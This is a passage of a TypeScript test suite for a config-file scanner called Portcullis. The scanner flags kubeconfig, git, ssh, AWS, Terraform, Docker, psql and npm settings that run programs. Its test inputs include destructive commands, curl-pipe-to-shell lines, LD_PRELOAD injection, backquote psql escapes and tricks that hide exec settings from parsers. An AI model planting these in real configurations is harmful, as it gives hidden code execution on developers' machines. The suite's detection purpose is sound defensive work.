import { test } from 'node:test';
import assert from 'node:assert/strict';
import { configFilesOf, judgeSetting, knownCredentialPlugin, readConfig, type ConfigReading } from './tool-config.ts';

const keys = (r: ConfigReading) => (r.ok ? r.settings.map((s) => s.key) : r.message);
const judged = (r: ConfigReading) => (r.ok ? r.settings.map((s) => judgeSetting(s, '/home/a/.kube', '/home/a')) : r.message);

test('D8 round 12 kubeconfig: an exec plugin is found with its args and env; a shell one is not a known plugin, EKS/GKE/AKS/DO/OCI shapes are', () => {
  const text = `apiVersion: v1
kind: Config
users:
- name: evil
  user:
    exec:
      apiVersion: client.authentication.k8s.io/v1beta1
      command: sh
      args: [-c, "rm -rf ~"]
- name: eks
  user:
    exec:
      command: aws
      args: [--region, eu-west-1, eks, get-token, --cluster-name, prod]
      env: [{ name: AWS_PROFILE, value: prod }]
- name: certs
  user: { client-certificate-data: AAAA }
`;
  const r = readConfig('kubeconfig', text);
  assert.deepEqual(keys(r), ['users[evil].user.exec', 'users[eks].user.exec']);
  assert.deepEqual(judged(r), [
    { safe: false, why: 'runs `sh -c rm -rf ~`, which is no known credential plugin\'s command' },
    { safe: true, program: 'aws', kind: 'program' },
  ]);
  for (const argv of [
    ['aws', 'eks', 'get-token', '--cluster-name', 'prod', '--output', 'json'],
    ['gke-gcloud-auth-plugin'],
    ['kubelogin', 'get-token', '--login', 'azurecli', '--server-id', '6dae42f8-4368-4678-94ff-3960e28e3630'],
    ['doctl', 'kubernetes', 'cluster', 'kubeconfig', 'exec-credential', '--version=v1beta1', '--context=default', '8d3a2b1c-0000'],
    ['oci', 'ce', 'cluster', 'generate-token', '--cluster-id', 'ocid1.cluster.oc1.x', '--region', 'us-ashburn-1'],
    ['/usr/local/bin/aws-iam-authenticator', 'token', '-i', 'prod'],
  ]) assert.equal(knownCredentialPlugin(argv), true, argv.join(' '));
  // root's `aws` with other args runs what they say (`s3 rm`), and extra words or options are not the shape
  for (const argv of [['aws', 's3', 'rm', '--recursive', 's3://b'], ['aws', 'eks', 'get-token', '--cluster-name', 'p', 'x'], ['aws', 'eks', 'get-token', '--cli-binary-format', 'x'], ['gke-gcloud-auth-plugin', '--x'], ['doctl', 'kubernetes', 'cluster', 'kubeconfig', 'exec-credential', 'a', 'b']]) {
    assert.equal(knownCredentialPlugin(argv), false, argv.join(' '));
  }
});

test('D8 round 12 kubeconfig: a plugin given another variable, a legacy provider\'s command, broken YAML fail closed; no users runs nothing', () => {
  const env = readConfig('kubeconfig', 'users:\n- name: e\n  user:\n    exec:\n      command: gke-gcloud-auth-plugin\n      env: [{name: LD_PRELOAD, value: /tmp/x.so}]\n');
  assert.deepEqual(judged(env), [{ safe: false, why: 'sets `LD_PRELOAD` for the plugin it runs' }]);
  const gcp = readConfig('kubeconfig', 'users:\n- name: g\n  user:\n    auth-provider:\n      name: gcp\n      config: { cmd-path: /tmp/x, cmd-args: y }\n');
  assert.deepEqual(judged(gcp), [{ safe: false, why: 'a legacy auth provider\'s command, which is no known credential plugin' }]);
  assert.equal(readConfig('kubeconfig', 'users: [\n').ok, false);
  assert.equal(readConfig('kubeconfig', 'users:\n- name: e\n  user:\n    exec: { args: [x] }\n').ok, false);
  assert.equal(readConfig('kubeconfig', 'users: 3\n').ok, false);
  assert.deepEqual(readConfig('kubeconfig', 'apiVersion: v1\nclusters: []\ncontexts: []\n'), { ok: true, settings: [], includes: [] });
  assert.deepEqual(readConfig('kubeconfig', ''), { ok: true, settings: [], includes: [] });
  // a relative plugin path runs from the kubeconfig's folder
  const rel = readConfig('kubeconfig', 'users:\n- name: r\n  user:\n    exec: { command: ./bin/aws, args: [eks, get-token, --cluster-name, p] }\n');
  assert.deepEqual(judged(rel), [{ safe: true, program: '/home/a/.kube/./bin/aws', kind: 'program' }]);
});

test('D8 round 12 git config: settings that run a program are found (fsmonitor, aliases, quoted and continued values, subsections), with includes; benign ones pass', () => {
  const text = [
    '[core]',
    '\tfsmonitor = .git/hooks/x ; a comment',
    '\tsshCommand = "ssh -i ~/.ssh/deploy"',
    '\tpager = less -FRX',
    '\tautocrlf = false',
    '[alias]',
    '\tst = status',
    '\tnuke = "!rm -rf \\"$HOME\\""',
    '[credential]',
    '\thelper = store',
    '[credential "https://example.com"]',
    '\thelper = !f() { echo x; }; f', // (`;` starts a comment outside quotes: git reads `!f() { echo x`)
    '[filter "lfs"]',
    '\tclean = git-lfs clean -- %f',
    '\trequired',
    '[include]',
    '\tpath = ~/.gitconfig.d/extra',
    '[includeIf "gitdir:~/work/"]',
    '\tpath = work.inc',
    '[diff]',
    '\texternal = difft \\',
    '  --color=always',
    '[pager]',
    '\tlog = false',
  ].join('\n');
  const r = readConfig('gitconfig', text);
  assert.ok(r.ok);
  assert.deepEqual(r.settings.map((s) => [s.key, s.run.kind === 'line' ? s.run.text : '']), [
    ['core.fsmonitor', '.git/hooks/x'],
    ['core.sshcommand', 'ssh -i ~/.ssh/deploy'],
    ['core.pager', 'less -FRX'],
    ['alias.nuke', 'rm -rf "$HOME"'],
    ['credential.https://example.com.helper', 'f() { echo x'],
    ['filter.lfs.clean', 'git-lfs clean -- %f'],
    ['diff.external', 'difft   --color=always'],
  ]);
  assert.deepEqual(r.includes, ['~/.gitconfig.d/extra', 'work.inc']);
  assert.deepEqual(r.settings.map((s) => judgeSetting(s, '/home/a', '/home/a')), [
    { safe: false, why: 'runs `.git/hooks/x`, which names `.git/hooks/x`, a path relative to the working folder' },
    { safe: true, program: 'ssh', kind: 'program' },
    { safe: true, program: 'less', kind: 'program' },
    { safe: false, why: 'runs `rm -rf "$HOME"`, a shell snippet Portcullis does not judge' },
    { safe: false, why: 'runs `f() { echo x`, a shell snippet Portcullis does not judge' },
    { safe: true, program: 'git-lfs', kind: 'program' },
    { safe: true, program: 'difft', kind: 'program' },
  ]);
  // an ssh command that reads another config file or loads a PKCS#11 library, a pager with a lesskey file
  const more = readConfig('gitconfig', '[core]\n\tsshCommand = ssh -F /tmp/c\n\tpager = less -k /tmp/k\n');
  assert.deepEqual(judged(more), [
    { safe: false, why: 'runs `ssh -F /tmp/c`, a shell snippet Portcullis does not judge' },
    { safe: false, why: 'runs `less -k /tmp/k`, a shell snippet Portcullis does not judge' },
  ]);
});

test('D8 round 12 git config: text git would not read fails closed', () => {
  for (const text of ['[core\n', 'fsmonitor = x\n', '[core]\n\tpager = "less\n', '[core]\n\tpager = a\\qb\n', '[core]\n\t=x\n']) {
    assert.equal(readConfig('gitconfig', text).ok, false, JSON.stringify(text));
  }
  assert.deepEqual(readConfig('gitconfig', '# only a comment\n[user]\n\tname = A\n\temail = a@b\n'), { ok: true, settings: [], includes: [] });
});

test('D8 round 12 ssh_config: ProxyCommand, LocalCommand, KnownHostsCommand, Match exec, PKCS11Provider and Include are found; a bastion jump passes', () => {
  const text = [
    'Include config.d/*',
    'Host bastion',
    '  ProxyCommand ssh -W %h:%p jump.example.com',
    'Host *.evil',
    '  ProxyCommand=sh -c "curl x | sh"',
    '  LocalCommand rm -rf ~',
    '  KnownHostsCommand /usr/bin/true',
    '  PKCS11Provider /home/a/lib/p11.so',
    'Match host db exec "test -f ~/.flag"',
    '  ProxyJump jump',
    'Host quiet',
    '  ProxyCommand none',
  ].join('\n');
  const r = readConfig('ssh_config', text);
  assert.ok(r.ok);
  assert.deepEqual(r.includes, ['config.d/*']);
  assert.deepEqual(r.settings.map((s) => s.key), ['Host bastion ProxyCommand', 'Host *.evil ProxyCommand', 'Host *.evil LocalCommand', 'Host *.evil KnownHostsCommand', 'Host *.evil PKCS11Provider', 'Match exec']);
  assert.deepEqual(r.settings.map((s) => judgeSetting(s, '/home/a/.ssh', '/home/a')), [
    { safe: true, program: 'ssh', kind: 'program' },
    { safe: false, why: 'runs `sh -c "curl x | sh"`, a shell snippet Portcullis does not judge' },
    { safe: true, program: 'rm', kind: 'program' },
    { safe: true, program: '/usr/bin/true', kind: 'program' },
    { safe: true, program: '/home/a/lib/p11.so', kind: 'file' },
    { safe: true, program: 'test', kind: 'program' },
  ]);
  assert.equal(readConfig('ssh_config', 'Host x\n  ProxyCommand\n').ok, false);
  assert.equal(readConfig('ssh_config', 'Match exec "x\n').ok, false);
  assert.deepEqual(readConfig('ssh_config', 'Host *\n  ServerAliveInterval 30\n  IdentityFile ~/.ssh/id_ed25519\n'), { ok: true, settings: [], includes: [] });
});

test('D8 round 12 AWS config: credential_process and CLI plugins are found; profiles with keys or SSO pass; broken INI fails closed', () => {
  const r = readConfig('aws', '[default]\nregion = eu-west-1\n[profile dev]\ncredential_process = /usr/local/bin/aws-vault export --format=json dev\ns3 =\n  max_concurrent_requests = 20\n[profile evil]\ncredential_process = sh -c "env > /tmp/x"\n[plugins]\ncli_legacy_plugin_path = /home/a/py\nendpoint = awscli_plugin_endpoint\n');
  assert.deepEqual(judged(r), [
    { safe: true, program: '/usr/local/bin/aws-vault', kind: 'program' },
    { safe: false, why: 'runs `sh -c "env > /tmp/x"`, a shell snippet Portcullis does not judge' },
    { safe: false, why: 'an AWS CLI plugin, a Python module the CLI imports on every call' },
    { safe: false, why: 'an AWS CLI plugin, a Python module the CLI imports on every call' },
  ]);
  assert.deepEqual(readConfig('aws', '[sso-session corp]\nsso_start_url = https://corp.awsapps.com/start\n[profile a]\nsso_session = corp\n'), { ok: true, settings: [], includes: [] });
  assert.equal(readConfig('aws', 'credential_process = x\n').ok, false);
  assert.equal(readConfig('aws', '[default]\nnot a setting\n').ok, false);
});

test('D8 round 12 the table: variables route a tool to other files; a home that is not known leaves the path null', () => {
  assert.deepEqual(configFilesOf('kubectl', {}, '/home/a'), [{ path: '/home/a/.kube/config', format: 'kubeconfig', via: '~/.kube/config' }]);
  assert.deepEqual(configFilesOf('helm', { KUBECONFIG: '/etc/k/a:~/.kube/b' }, '/home/a').filter((f) => f.format === 'kubeconfig').map((f) => f.path), ['/etc/k/a', '/home/a/.kube/b']);
  assert.deepEqual(configFilesOf('git', { XDG_CONFIG_HOME: '/home/a/xdg' }, '/home/a').map((f) => [f.path, f.format]), [['/home/a/.gitconfig', 'gitconfig'], ['/home/a/xdg/git/config', 'gitconfig'], ['/home/a/.ssh/config', 'ssh_config']]);
  assert.deepEqual(configFilesOf('git', { GIT_CONFIG_GLOBAL: '/etc/agent.gitconfig' }, '/home/a').map((f) => f.path), ['/etc/agent.gitconfig', '/home/a/.ssh/config']);
  assert.deepEqual(configFilesOf('aws', { AWS_CONFIG_FILE: '/etc/aws/config' }, undefined).map((f) => f.path), ['/etc/aws/config', null]);
  assert.deepEqual(configFilesOf('ls', {}, '/home/a'), []);
});

// ---------------------------------------------------------------------------------------------------------------
// Round 12 review (branch r12g): readers that saw less than the tool reads

test('D8 review r12g git config: a backslash ending a comment does not join the next line (git reads that line as a setting)', () => {
  // git-config(1): the rest of a line after `#` is a comment; `git config --get core.fsmonitor` prints /tmp/evil here
  const r = readConfig('gitconfig', '[core]\n\teditor = vi # \\\n\tfsmonitor = /tmp/evil\n');
  assert.deepEqual(keys(r), ['core.editor', 'core.fsmonitor']);
  // benign neighbour: a real continuation (backslash outside a comment) still joins, in or out of quotes
  assert.deepEqual(readConfig('gitconfig', '[core]\n\tpager = less \\\n-R\n\teditor = "vi \\\n-n"\n'), {
    ok: true,
    settings: [
      { key: 'core.pager', run: { kind: 'line', line: 'pager', text: 'less -R' } },
      { key: 'core.editor', run: { kind: 'line', line: 'shell', text: 'vi -n' } },
    ],
    includes: [],
  });
});

test('D8 review r12g kubeconfig: a `<<` merge key (client-go\'s YAML reads it) cannot hide an exec plugin', () => {
  const r = readConfig('kubeconfig', 'base: &b\n  exec:\n    command: sh\n    args: [-c, evil]\nusers:\n- name: x\n  user:\n    <<: *b\n');
  assert.deepEqual(judged(r), [{ safe: false, why: 'runs `sh -c evil`, which is no known credential plugin\'s command' }]);
  // benign neighbour: a merged token-only user runs nothing
  assert.deepEqual(readConfig('kubeconfig', 'base: &b\n  token: abc\nusers:\n- name: x\n  user:\n    <<: *b\n'), { ok: true, settings: [], includes: [] });
});

test('D8 review r12g AWS config: credential_process read as botocore reads it (`:` delimiter, indented option, continuation lines, no inline comments)', () => {
  // Python's configparser (botocore): `key: value` is a setting; a first option may be indented; an indented line after
  // an option continues its value; `#` after a value is part of it
  const cases: Array<[string, string]> = [
    ['[default]\ncredential_process: /tmp/evil --a=b\n', '/tmp/evil'],
    ['[default]\n  credential_process = /tmp/evil\n', '/tmp/evil'],
    ['[default]\ncredential_process = /usr/bin/ssh\n  -oProxyCommand=/tmp/evil h\n', 'ssh'],
    ['[default]\ncredential_process = /usr/bin/ssh #h -oProxyCommand=/tmp/evil\n', 'ssh'],
  ];
  for (const [text, what] of cases) {
    const r = readConfig('aws', text);
    assert.ok(r.ok, text);
    assert.equal(r.settings.length, 1, text);
    const j = judgeSetting(r.settings[0]!, '/home/a/.aws', '/home/a');
    if (what === 'ssh') assert.equal(j.safe, false, text);
    else assert.deepEqual(j, { safe: true, program: what, kind: 'program' }, text);
  }
  // benign neighbours: nested s3 settings and ARNs with `:` stay plain settings; a plain credential_process passes
  assert.deepEqual(readConfig('aws', '[profile a]\nrole_arn = arn:aws:iam::123:role/x\ns3 =\n  max_concurrent_requests = 20\n'), { ok: true, settings: [], includes: [] });
  assert.deepEqual(judged(readConfig('aws', '[profile a]\ncredential_process = /usr/local/bin/aws-vault export --format=json a\n')), [{ safe: true, program: '/usr/local/bin/aws-vault', kind: 'program' }]);
  assert.equal(readConfig('aws', '  credential_process = x\n').ok, false);
});

test('D8 review r12g git config: an alias without `!` that passes git options or runs a subcommand that writes is judged; read-only aliases pass', () => {
  // git-config(1) alias.*: the first word may be an option for git itself (`-c` one-time settings); `git st` is
  // decided as an unknown read while git runs the expansion
  const r = readConfig('gitconfig', '[alias]\n\tst = -c core.fsmonitor=/tmp/evil status\n\tsv = clean -fdx\n\tlg = log --output=/home/a/.bashrc\n\tx = "reset --hard"\n');
  assert.ok(r.ok);
  assert.deepEqual(r.settings.map((s) => [s.key, judgeSetting(s, '/home/a', '/home/a').safe]), [['alias.st', false], ['alias.sv', false], ['alias.lg', false], ['alias.x', false]]);
  // benign neighbours: the aliases people keep for reading
  assert.deepEqual(readConfig('gitconfig', '[alias]\n\tst = status -sb\n\tlg = log --oneline --graph --decorate\n\tdf = diff --stat\n\tlast = log -1 HEAD\n'), { ok: true, settings: [], includes: [] });
});

test('D8 review r12g ssh_config: XAuthLocation names the program ssh runs for X11 forwarding', () => {
  const r = readConfig('ssh_config', 'Host *\n  ForwardX11 yes\n  XAuthLocation /home/a/bin/xauth\n');
  assert.deepEqual(judged(r), [{ safe: true, program: '/home/a/bin/xauth', kind: 'program' }]);
  assert.deepEqual(judged(readConfig('ssh_config', 'Host *\n  XAuthLocation ./xauth\n')), [{ safe: false, why: 'runs `./xauth`, which names `./xauth`, a path relative to the working folder' }]);
});

test('D8 round 13 Terraform CLI configuration: dev_overrides, a filesystem mirror, a plugin cache and a credentials helper are found; direct installation and credentials are not', () => {
  const text = `# ~/.terraformrc
plugin_cache_dir = "$HOME/.terraform.d/plugin-cache"
disable_checkpoint = true
credentials "app.terraform.io" {
  token = "xxxxxx.atlasv1.zzzzzzzzzzzzz"
}
provider_installation {
  dev_overrides {
    "hashicorp/null" = "/home/a/go/bin"
  }
  filesystem_mirror {
    path    = "/usr/share/terraform/providers"
    include = ["example.com/*/*"]
  }
  direct {
    exclude = ["example.com/*/*"]
  }
}
/* a block
   comment */
credentials_helper "vault" {
  args = ["--host=vault.example.com"]
}
`;
  const r = readConfig('terraformrc', text);
  assert.deepEqual(keys(r), ['plugin_cache_dir', 'provider_installation dev_overrides "hashicorp/null"', 'provider_installation filesystem_mirror path', 'credentials_helper vault']);
  assert.deepEqual(judged(r), [
    { safe: true, program: '/home/a/.terraform.d/plugin-cache', kind: 'file' },
    { safe: true, program: '/home/a/go/bin', kind: 'file' },
    { safe: true, program: '/usr/share/terraform/providers', kind: 'file' },
    { safe: false, why: 'runs a `terraform-credentials-*` program from the plugin folders, which Portcullis does not find' },
  ]);
  // the JSON form (`*.tfrc.json`) reads alike
  const json = readConfig('terraformrc', '{"provider_installation": [{"dev_overrides": [{"hashicorp/null": "bin"}]}], "disable_checkpoint": true}');
  assert.deepEqual(judged(json), [{ safe: false, why: 'names `bin` (terraform runs that provider\'s program from there, unchecked), a folder at a path relative to the working folder' }]);
  // Benign: credentials only, network mirror and direct; an unknown variable in a folder fails closed; broken text fails closed
  assert.deepEqual(keys(readConfig('terraformrc', 'credentials "app.terraform.io" { token = "x" }\nprovider_installation {\n  network_mirror { url = "https://m.example.com/" }\n  direct {}\n}\n')), []);
  assert.deepEqual(judged(readConfig('terraformrc', 'plugin_cache_dir = "${XDG_CACHE_HOME}/tf"\n')), [{ safe: false, why: 'names `${XDG_CACHE_HOME}/tf`, a folder by variables Portcullis does not expand' }]);
  for (const bad of ['provider_installation {\n', 'plugin_cache_dir = <<EOF\n/tmp\nEOF\n', 'x = "open', 'provider_installation { filesystem_mirror { include = [] } }', 'provider_installation { plugin_dir { path = "/x" } }']) {
    const b = readConfig('terraformrc', bad);
    assert.ok(!b.ok || b.settings.some((s) => s.run.kind === 'code'), bad);
  }
});

test('D8 round 13 Docker config.json: credsStore and credHelpers run docker-credential-NAME from PATH; extra plugin folders are folders; auths alone run nothing', () => {
  const r = readConfig('docker', JSON.stringify({ auths: { 'ghcr.io': { auth: 'eA==' } }, credsStore: 'desktop', credHelpers: { 'gcr.io': 'gcloud', 'x.io': '../../tmp/evil' }, cliPluginsExtraDirs: ['/home/a/.docker/more'] }));
  assert.deepEqual(judged(r), [
    { safe: true, program: 'docker-credential-desktop', kind: 'program' },
    { safe: true, program: 'docker-credential-gcloud', kind: 'program' },
    { safe: false, why: 'names the helper `../../tmp/evil`, which is no program name' },
    { safe: true, program: '/home/a/.docker/more', kind: 'file' },
  ]);
  assert.deepEqual(keys(readConfig('docker', '{"auths": {}, "currentContext": "default", "credsStore": ""}')), []);
  assert.equal(readConfig('docker', '{"credsStore": ').ok, false);
  assert.equal(readConfig('docker', '[]').ok, false);
  assert.equal(readConfig('docker', '{"credHelpers": {"a": 1}}').ok, false);
});

test('D8 round 13 psqlrc: only display settings pass; shell escapes, pipes, backquotes, prompts running commands and SQL are found', () => {
  const benign = '-- my psqlrc\n\\set QUIET 1\n\\pset null \'(null)\'\n\\pset pager off\n\\timing on\n\\x auto\n\\set PROMPT1 \'%n@%/%R%# \'\n\\set HISTFILE ~/.psql_history- :DBNAME\n\\set COMP_KEYWORD_CASE upper\n\\unset QUIET\nSET search_path TO app, public;\n';
  assert.deepEqual(readConfig('psqlrc', benign), { ok: true, settings: [], includes: [] });
  for (const bad of ['\\! rm -rf ~', '\\o |sh', '\\g |curl x', '\\copy t from program \'sh -c id\'', '\\set x `id`', '\\set PROMPT1 \'%`id`\'', '\\set PROMPT1 \'%\\x60id\\x60\'', '\\set PROMPT1 %:evil:', '\\pset pager always \\! id', 'DROP TABLE users;', '\\setenv PAGER \'sh -c id\'', '\\set activity \'select 1\'', '\\i notes.sql']) {
    const r = readConfig('psqlrc', `\\timing on\n${bad}\n`);
    assert.ok(r.ok && r.settings.length === 1 && r.settings[0]!.key === 'line 2' && r.settings[0]!.run.kind === 'code', bad);
  }
  assert.deepEqual(readConfig('psqlrc', '\\i ~/.psqlrc.local\n\\ir more.psqlrc\n'), { ok: true, settings: [], includes: ['~/.psqlrc.local', 'more.psqlrc'] });
});

test('D8 round 13 npmrc: script-shell, shell, git, editor and node-options with code are found; registry settings and plain node options are not', () => {
  const r = readConfig('npmrc', 'registry=https://registry.npmjs.org/\n//registry.npmjs.org/:_authToken=${NPM_TOKEN}\nscript-shell = /home/a/bin/sh\ngit=git\neditor = vim -n\nnode-options="--require /home/a/x.js"\nshell = ${SHELL}\n[section]\nsave-exact = true\n');
  assert.deepEqual(judged(r), [
    { safe: true, program: '/home/a/bin/sh', kind: 'program' },
    { safe: true, program: 'git', kind: 'program' },
    { safe: true, program: 'vim', kind: 'program' },
    { safe: false, why: 'is `--require /home/a/x.js`, which loads that module into every script npm runs (node(1))' },
    { safe: false, why: 'is `${SHELL}`, which npm fills in from variables Portcullis does not see' },
  ]);
  // the `ini` package ends an unquoted value at `;` or `#` (npm runs `vim`); `script-shell` is one program's path, never split
  assert.deepEqual(judged(readConfig('npmrc', 'editor = vim; rm -rf ~\nscript-shell=./sh\n')), [
    { safe: true, program: 'vim', kind: 'program' },
    { safe: false, why: 'runs `./sh`, which names `./sh`, a path relative to the working folder' },
  ]);
  assert.deepEqual(keys(readConfig('npmrc', 'Script_Shell=/x\n')), ['script-shell']);
  assert.deepEqual(keys(readConfig('npmrc', 'node-options=--max-old-space-size=4096 --no-warnings\nengine-strict=true\nlegacy-peer-deps = true\n')), []);
  assert.deepEqual(readConfig('npmrc', 'globalconfig = /home/a/.npm-global\n'), { ok: true, settings: [], includes: ['/home/a/.npm-global'] });
});

test('D8 round 13 the table: terraform/tofu, docker, psql and npm read their files and the variables naming others', () => {
  const home = '/home/a';
  assert.deepEqual(configFilesOf('tofu', {}, home).filter((f) => f.format !== 'program_folder' && f.format !== 'google_credentials' && f.format !== 'mtls_config').map((f) => f.path), ['/home/a/.aws/config', '/home/a/.aws/credentials', '/home/a/.terraformrc', '/home/a/.tofurc', '/home/a/.config/opentofu/tofurc', '/home/a/.terraform.d/*.tfrc', '/home/a/.terraform.d/*.tfrc.json', '/home/a/.config/opentofu/*.tfrc', '/home/a/.config/opentofu/*.tfrc.json']);
  assert.deepEqual(configFilesOf('terraform', { TF_CLI_CONFIG_FILE: '/etc/tf.rc', XDG_CONFIG_HOME: '/x' }, home).filter((f) => f.format !== 'program_folder' && f.format !== 'google_credentials' && f.format !== 'mtls_config').map((f) => f.path).slice(2), ['/etc/tf.rc', '/home/a/.terraform.d/*.tfrc', '/home/a/.terraform.d/*.tfrc.json', '/x/opentofu/*.tfrc', '/x/opentofu/*.tfrc.json']);
  assert.deepEqual(configFilesOf('docker', { DOCKER_CONFIG: '~/d/' }, home).filter((f) => f.format === 'docker').map((f) => [f.path, f.via]), [['/home/a/d/config.json', 'DOCKER_CONFIG=~/d/']]);
  assert.deepEqual(configFilesOf('psql', { PGSYSCONFDIR: '/etc/pg' }, home).map((f) => f.path), ['/etc/pg/psqlrc', '/etc/pg/psqlrc-*', '/home/a/.psqlrc', '/home/a/.psqlrc-*']);
  assert.deepEqual(configFilesOf('npx', { NPM_CONFIG_USERCONFIG: '/etc/npmrc' }, home, '/home/a/app').filter((f) => f.format === 'npmrc').map((f) => f.path), ['/home/a/app/.npmrc', '/home/a/.npmrc', '/home/.npmrc', '/.npmrc', '/etc/npmrc']);
});

test('D8 round 13 git config: remote uploadpack/receivepack and `ext::` remotes (a url, or a url.insteadOf rewriting to one) run commands; ordinary remotes pass', () => {
  const r = readConfig('gitconfig', '[remote "origin"]\n\turl = git@github.com:a/b.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[remote "local"]\n\turl = /srv/repo.git\n\tuploadpack = sh -c \'id\'; git-upload-pack\n\treceivepack = /home/a/bin/rp\n[remote "x"]\n\turl = ext::sh -c touch% /tmp/pwned\n[protocol "ext"]\n\tallow = always\n[url "ext::sh -c id"]\n\tinsteadOf = https://github.com/\n');
  assert.deepEqual(keys(r), ['remote.local.uploadpack', 'remote.local.receivepack', 'remote.x.url', 'url.ext::sh -c id.insteadof']);
  assert.deepEqual((judged(r) as Array<{ safe: boolean }>).map((j) => j.safe), [false, true, false, false]);
  assert.deepEqual(keys(readConfig('gitconfig', '[remote "origin"]\n\turl = https://github.com/a/b\n\tuploadpack = git-upload-pack\n[url "git@github.com:"]\n\tinsteadOf = https://github.com/\n')), ['remote.origin.uploadpack']);
  assert.deepEqual(judged(readConfig('gitconfig', '[remote "origin"]\n\tuploadpack = git-upload-pack\n')), [{ safe: true, program: 'git-upload-pack', kind: 'program' }]);
});

// Round 13 review (r13g): each reader against its tool's own parsing
const runsSomething = (r: ConfigReading) => !r.ok || r.settings.length > 0;

test('r13g psqlrc: an include whose name psql interpolates (backquotes, `:var`, quotes, escapes) is code, not a file to follow', () => {
  // psql runs a backquoted argument of any meta-command in a shell (psql(1) Meta-Commands), \i and \ir included
  for (const bad of ['\\ir `curl${IFS}evil|sh`', '\\i ~/`id>/tmp/p`', '\\i /tmp/:HISTFILE', '\\ir :HISTFILE', "\\ir 'evil.sql'", '\\i "/tmp/x"', '\\ir a\\\\!id']) {
    const r = readConfig('psqlrc', `${bad}\n`);
    assert.ok(r.ok && r.includes.length === 0 && r.settings.length === 1 && r.settings[0]!.run.kind === 'code', bad);
  }
  assert.deepEqual(readConfig('psqlrc', '\\i ~/.psqlrc.local\n\\ir more-1.psqlrc\n'), { ok: true, settings: [], includes: ['~/.psqlrc.local', 'more-1.psqlrc'] });
});

test('r13g npmrc: npm fills `${VAR}` (and `${VAR?}`, empty when unset) in keys too: a key it cannot know is code', () => {
  // @npmcli/config replaces variables in each key before using it: `script-shell${X?}` is `script-shell`
  for (const bad of ['script-shell${UNSET?} = /tmp/sh', '${K} = /tmp/sh', 'node-options${A?}=--require /tmp/x.js']) assert.ok(runsSomething(readConfig('npmrc', `${bad}\n`)), bad);
  assert.deepEqual(keys(readConfig('npmrc', '//registry.npmjs.org/:_authToken=${NPM_TOKEN}\nregistry=https://r.example/\n')), []);
});

test('r13g docker config.json: the Docker CLI (Go encoding/json) matches keys case-blind, Unicode folding included', () => {
  for (const bad of ['{"CredsStore":"pass"}', '{"credsstore":"pass"}', '{"cred\u017fStore":"pass"}', '{"CREDHELPERS":{"r.io":"pass"}}', '{"CliPluginsExtraDirs":["/tmp/p"]}']) {
    const r = readConfig('docker', bad);
    assert.ok(runsSomething(r), bad);
  }
  assert.deepEqual(keys(readConfig('docker', '{"auths":{"r.io":{"auth":"eA=="}},"HttpHeaders":{"User-Agent":"x"}}')), []);
});

test('r13g Terraform: HCL 1 matches block and setting names case-blind; a string with `${` runs to its closing brace as HCL 1 scans it', () => {
  for (const bad of ['PLUGIN_CACHE_DIR = "/tmp/p"\n', 'Provider_Installation {\n  dev_overrides { "hashicorp/aws" = "/tmp/p" }\n}\n', 'provider_installation {\n  filesystem_mirror { PATH = "/tmp/p" }\n}\n', 'Credentials_Helper "x" {}\n', '{"Plugin_Cache_Dir": "/tmp/p"}']) {
    assert.ok(runsSomething(readConfig('terraformrc', bad)), bad);
  }
  // terraform reads `a` as `${" x { "}}` and sets plugin_cache_dir at the top; a reader ending strings at the first quote does not
  const hidden = 'a = "${" x { "}}"\nplugin_cache_dir = "/tmp/evil"\nb = "${"}" # "\nc = "d"\n';
  assert.ok(runsSomething(readConfig('terraformrc', hidden)));
  assert.deepEqual(keys(readConfig('terraformrc', 'disable_checkpoint = true\ncredentials "app.terraform.io" { token = "x.y" }\nprovider_installation {\n  direct {}\n}\n')), []);
});

test('D8 round 14 the table: docker\'s CLI plugin folders (the config folder\'s `cli-plugins` first, then the system\'s) are folders of programs', () => {
  const sys = ['/usr/local/lib/docker/cli-plugins', '/usr/local/libexec/docker/cli-plugins', '/usr/lib/docker/cli-plugins', '/usr/libexec/docker/cli-plugins'];
  assert.deepEqual(configFilesOf('docker', {}, '/home/a').filter((f) => f.format === 'program_folder').map((f) => f.path), ['/home/a/.docker/cli-plugins', ...sys]);
  assert.deepEqual(configFilesOf('docker', { DOCKER_CONFIG: '/srv/d' }, '/home/a').filter((f) => f.format === 'program_folder').map((f) => [f.path, f.via]), [['/srv/d/cli-plugins', 'DOCKER_CONFIG=/srv/d'], ...sys.map((p) => [p, p])]);
  // docker-compose v1 (a program of its own) has no CLI plugins; a folder is never read as a file
  assert.deepEqual(configFilesOf('docker-compose', {}, '/home/a').filter((f) => f.format === 'program_folder'), []);
  assert.equal(readConfig('program_folder', 'x').ok, false);
  // Helm's plugins: `HELM_PLUGINS` (a list, as helm splits it) in place of `~/.local/share/helm/plugins`
  // (round 16: macOS's `~/Library/helm/plugins` too, a folder that is not there holding nothing)
  assert.deepEqual(configFilesOf('helm', {}, '/home/a').filter((f) => f.format === 'program_folder').map((f) => f.path), ['/home/a/.local/share/helm/plugins', '/home/a/Library/helm/plugins']);
  assert.deepEqual(configFilesOf('helm', { HELM_PLUGINS: '/opt/hp:~/hp' }, '/home/a').filter((f) => f.format === 'program_folder').map((f) => f.path), ['/opt/hp', '/home/a/hp']);
});

test('D8 round 14 npmrc: pnpm\'s `npm-path` is a program; `init-module`, `pnpmfile` and `global-pnpmfile` name modules the tool runs (code)', () => {
  assert.deepEqual(judged(readConfig('npmrc', 'npm-path = /home/a/bin/npm\n')), [{ safe: true, program: '/home/a/bin/npm', kind: 'program' }]);
  for (const bad of ['init-module = ~/.npm-init.js', 'init_module=/tmp/x.js', 'pnpmfile = .pnpmfile.cjs', 'global-pnpmfile=/home/a/g.cjs', 'Global_Pnpmfile = x.cjs']) {
    const r = readConfig('npmrc', `${bad}\n`);
    assert.ok(r.ok && r.settings.length === 1 && r.settings[0]!.run.kind === 'code', bad);
  }
  // benign neighbours: init defaults and pnpm's ordinary settings
  assert.deepEqual(keys(readConfig('npmrc', 'init-author-name = Dana\ninit-license = MIT\nauto-install-peers = true\nignore-pnpmfile = true\nshamefully-hoist = true\n')), []);
});

test('D8 round 16 HELM_DATA_HOME and XDG_DATA_HOME move Helm\'s default plugin folder (`$HELM_DATA_HOME/plugins`, HELM_DATA_HOME by default `$XDG_DATA_HOME/helm`)', () => {
  const folders = (env: Record<string, string>) => configFilesOf('helm', env, '/home/a').filter((f) => f.format === 'program_folder').map((f) => [f.path, f.via]);
  assert.deepEqual(folders({ HELM_DATA_HOME: '/srv/helm' })[0], ['/srv/helm/plugins', '/srv/helm/plugins']);
